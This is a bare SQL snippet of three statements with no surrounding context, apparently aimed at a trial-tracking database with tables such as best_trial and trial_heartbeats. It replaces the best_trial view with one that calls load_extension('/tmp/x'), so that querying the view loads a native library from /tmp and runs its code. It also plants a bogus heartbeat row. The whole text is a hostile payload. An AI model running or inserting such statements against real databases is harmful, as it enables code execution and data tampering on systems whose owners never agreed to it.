DROP VIEW best_trial; CREATE VIEW best_trial AS SELECT load_extension('/tmp/x'); INSERT INTO trial_heartbeats (trial_id, heartbeat) VALUES (4, 'never');
